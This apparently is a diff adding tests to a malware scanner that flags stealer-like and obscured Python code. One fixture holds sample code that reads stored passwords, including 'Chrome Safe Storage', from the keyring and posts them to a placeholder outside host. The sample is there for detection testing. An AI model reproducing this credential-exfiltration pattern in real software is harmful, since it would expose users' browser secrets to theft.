@@ -200,3 +200,41 @@ def send():
 )
 def test_the_way_that_a_client_goes_is_not_what_it_sends(given: str, found: bool) -> None:
     assert (worst("stealer", CLIENT.format(given)) is not None) is found
+
+
+KEPT = """
+import keyring, requests
+def log_in(where, name):
+    requests.post(where, json=keyring.get_password({service!r}, name))
+def send(name):
+    requests.post("https://a.example.invalid/x", json=keyring.get_password({service!r}, name))
+"""
+
+
+@pytest.mark.parametrize(
+    ("service", "most"), [("sample", None), ("Chrome Safe Storage", Severity.HIGH)]
+)
+def test_a_password_under_the_own_name_is_no_loot(service: str, most: Severity | None) -> None:
+    assert worst("stealer", KEPT.format(service=service)) is most
+
+
+GREP = """
+import sys
+def grep(start, goal):
+    grep(start.__self__, goal)
+    for place, one in enumerate(start):
+        grep(start[place], goal)
+    start()
+grep({start}, 1)
+"""
+
+
+@pytest.mark.parametrize(
+    ("start", "found"), [("sys.modules", False), ("print", True), ("id.__self__", True)]
+)
+def test_what_a_name_is_bound_to_is_known_of_functions_alone(start: str, found: bool) -> None:
+    called = (
+        f"{GREP.format(start=start)}\n{start}.__self__[1 + len(str(start))]()" if found else GREP
+    )
+    text = called.format(start=start)
+    assert (worst("unreadable", text, "sample/__init__.py") is not None) is found
